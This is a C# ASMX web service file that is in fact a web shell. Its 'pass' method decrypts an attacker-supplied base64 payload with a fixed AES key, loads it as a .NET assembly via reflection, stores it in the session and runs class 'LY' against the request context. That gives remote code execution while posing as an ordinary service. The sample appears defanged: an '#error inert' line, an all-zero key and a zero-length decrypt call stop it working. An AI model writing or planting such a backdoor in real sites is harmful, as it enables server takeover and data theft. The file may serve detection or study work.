<%@ WebService Language="C#" Class="WebService1" %>
#error inert
using System.Web.Services;
public class WebService1 : WebService
{
    [WebMethod(EnableSession = true)]
    public string pass(string pass)
    {
        string key = "0000000000000000";
        byte[] kb = System.Text.Encoding.Default.GetBytes(key);
        byte[] data = new System.Security.Cryptography.RijndaelManaged().CreateDecryptor(kb, kb).TransformFinalBlock(System.Convert.FromBase64String(pass), 0, 0);
        if (Context.Session["payload"] == null)
        {
            Context.Session["payload"] = (System.Reflection.Assembly)typeof(System.Reflection.Assembly).GetMethod("Load", new System.Type[] { typeof(byte[]) }).Invoke(null, new object[] { data });
            return "";
        }
        object o = ((System.Reflection.Assembly)Context.Session["payload"]).CreateInstance("LY");
        o.Equals(Context); o.Equals(data);
        return o.ToString();
    }
}
